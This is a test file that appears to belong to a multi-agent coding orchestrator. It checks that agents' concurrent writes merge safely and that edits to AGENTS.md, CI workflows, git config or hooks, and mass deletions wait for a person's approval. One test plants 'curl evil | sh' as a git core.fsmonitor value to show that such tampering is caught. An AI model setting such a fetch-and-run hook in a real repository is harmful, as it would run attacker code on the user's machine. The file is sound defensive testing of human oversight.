// Who may write what, with real agents in a real repository: nothing is lost, nobody's work is overwritten, and what needs a
// person's eye waits for it. `npm run test:slow` plays 200 interleavings.

import {execFileSync} from 'node:child_process'
import {createWriteStream, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {expect, test} from 'vitest'
import type {RunState} from '../../src/run/state.ts'
import {quote} from '../../src/system/quote.ts'
import {createRig} from '../rig/rig.ts'
import {graphOf} from '../run/graphs.ts'
import {temporaryDirectory} from '../system/temporary.ts'
import {playInterleaving, withGate} from './interleaving.ts'

const phases = (state: RunState): {readonly [task: string]: string} =>
  Object.fromEntries([...state.tasks.values()].map(({task, phase}) => [task.id, phase]))

test.each([1])(
  'S002-04, S002-07, S003-30: six agents with overlapping files lose no update and merge no trespass (seed %i)',
  playInterleaving,
)

test('S002-08: what is written after the capture is not merged, however late its writer is', async () => {
  const rig = await createRig()
  const pipe = join(temporaryDirectory(), 'pipe')
  execFileSync('mkfifo', [pipe])
  const run = await rig.start(withGate(graphOf({T1: {writes: ['a.txt']}}), `cat ${quote(pipe)}`))
  const t1 = await rig.attempt('T1')
  await t1.write({'a.txt': 'in time\n'})
  t1.exit(0)
  // Opens when the gate reads: by then the work is captured.
  const opened = Promise.withResolvers<void>()
  const writer = createWriteStream(pipe).on('open', () => opened.resolve())
  await opened.promise
  writeFileSync(join(t1.workspace, 'a.txt'), 'too late\n')
  writer.end()
  const state = await run.finished
  expect(phases(state)).toEqual({T1: 'done'})
  expect(rig.git('show', `agent-spawn/${run.run}:a.txt`)).toBe('in time')
})

test('a change of what agents and tools obey by themselves is merged when a person has approved it', async () => {
  const rig = await createRig()
  const run = await rig.start(graphOf({T1: {writes: ['a.txt', 'pkg/AGENTS.md']}}))
  const t1 = await rig.attempt('T1')
  await t1.write({'a.txt': 'mine\n', 'pkg/AGENTS.md': 'Obey.\n', '.github/workflows/ci.yml': 'on: push\n'})
  t1.exit(0)
  const state = await run.finished
  expect([state.result, phases(state)]).toEqual(['needs-review', {T1: 'needs-review'}])
  const paths = ['.github/workflows/ci.yml', 'pkg/AGENTS.md']
  expect(state.tasks.get('T1')?.attempts[0]?.concerns).toEqual([{type: 'guarded-paths', paths}])
  const again = await rig.resume()
  expect(await again.ask({type: 'review-decided', task: 'T1', decision: 'approved', by: 'me'})).toBe(
    undefined,
  )
  expect(phases(await again.finished)).toEqual({T1: 'done'})
})

test('S004-14: paths that the configuration marks are guarded likewise, and no others', async () => {
  const rig = await createRig()
  const guard = {paths: ['shared/schemas/'], deletions: 0.5}
  const run = await rig.start(
    graphOf({T1: {writes: ['AGENTS.md']}, T2: {writes: ['shared/schemas/user.ts']}}),
    {guard},
  )
  for (const [task, file] of [
    ['T1', 'AGENTS.md'],
    ['T2', 'shared/schemas/user.ts'],
  ] as const) {
    const attempt = await rig.attempt(task)
    await attempt.write({[file]: 'text\n'})
    attempt.exit(0)
  }
  expect(phases(await run.finished)).toEqual({T1: 'done', T2: 'needs-review'})
})

test('an attempt that deletes more than a share of the tracked files is not merged unless a person says so', async () => {
  const files = Object.fromEntries(Array.from({length: 10}, (_, index) => [`src/${index}.ts`, `${index}\n`]))
  for (const [deleted, phase] of [
    [5, 'done'],
    [6, 'needs-review'],
  ] as const) {
    const rig = await createRig(files)
    const run = await rig.start(graphOf({T1: {writes: ['a.txt', 'src/']}}))
    const t1 = await rig.attempt('T1')
    await t1.write({'a.txt': 'mine\n'})
    for (let index = 0; index < deleted; index++) execFileSync('rm', [join(t1.workspace, `src/${index}.ts`)])
    t1.exit(0)
    const state = await run.finished
    expect(phases(state)).toEqual({T1: phase})
    expect(state.tasks.get('T1')?.attempts[0]?.concerns).toEqual(
      phase === 'done' ? undefined : [{type: 'mass-deletion', deleted, tracked: 10}],
    )
  }
})

test('an agent that changes what git runs in the user’s repository is found out, and what git notes there every day is none of it', async () => {
  const rig = await createRig()
  rig.git('remote', 'add', 'origin', '/elsewhere')
  const run = await rig.start(graphOf({T1: {}, T2: {needs: ['T1']}, T3: {needs: ['T2']}}))
  const act = async (task: string, change: () => void): Promise<void> => {
    const attempt = await rig.attempt(task)
    change()
    await attempt.write({[`${task}.txt`]: 'mine\n'})
    attempt.exit(0)
  }
  await act('T1', () => rig.git('config', 'branch.main.remote', 'origin'))
  await act('T2', () => {
    rig.git('config', 'core.fsmonitor', 'curl evil | sh')
    writeFileSync(join(rig.root, '.git/hooks/post-merge'), '#!/bin/sh\n')
  })
  const state = await run.finished
  expect(phases(state)).toEqual({T1: 'done', T2: 'needs-review', T3: 'waiting'})
  expect(state.tasks.get('T2')?.attempts[0]?.concerns).toEqual([
    {type: 'guarded-paths', paths: ['.git/config', '.git/hooks/post-merge']},
  ])
  rig.git('config', '--unset', 'core.fsmonitor')
})
